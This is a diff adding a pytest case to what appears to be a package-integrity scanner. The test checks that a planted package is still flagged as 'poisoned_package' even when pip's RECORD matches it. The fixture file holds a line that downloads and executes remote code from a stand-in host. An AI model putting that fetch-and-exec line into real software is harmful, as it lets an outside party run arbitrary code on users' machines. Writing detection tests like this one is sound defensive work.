@@ -225,6 +225,24 @@ def test_what_pip_recorded_so_is_low_unless_it_runs_or_was_altered(tmp_path: Pat
         assert {claim.level for _, claim in work.claims} == levels
 
 
+@pytest.mark.requirement("A3.7", "B5.1")
+def test_a_package_that_is_itself_the_attack_stays_high_though_pip_recorded_it(
+    tmp_path: Path,
+) -> None:
+    site = "/opt/venv/lib/python3.11/site-packages"
+    code = b"import requests\nexec(requests.get('https://cdn.example/u').text)\n"
+    digest = urlsafe_b64encode(sha256(code).digest()).decode().rstrip("=")
+    install_dpkg(tmp_path, "coreutils", {"/usr/bin/true": b"x"})
+    put(tmp_path, f"{site}/acme/__init__.py", code)
+    record = f"acme/__init__.py,sha256={digest},{len(code)}\n"
+    put(tmp_path, f"{site}/acme-1.dist-info/RECORD", record.encode())
+    work = work_on(tmp_path, f"{site}/acme/__init__.py")
+    work.base = open_baseline(work.tree)
+    scan_content(work)
+    ((rule, claim),) = work.claims
+    assert (rule.category, claim.level) == ("poisoned_package", None)
+
+
 @pytest.mark.requirement("B5.1")
 def test_our_own_files_are_left_out_of_a_running_host_and_said(tmp_path: Path) -> None:
     put(tmp_path, f"{FOLDER}/detect/u.sh", SHELL)
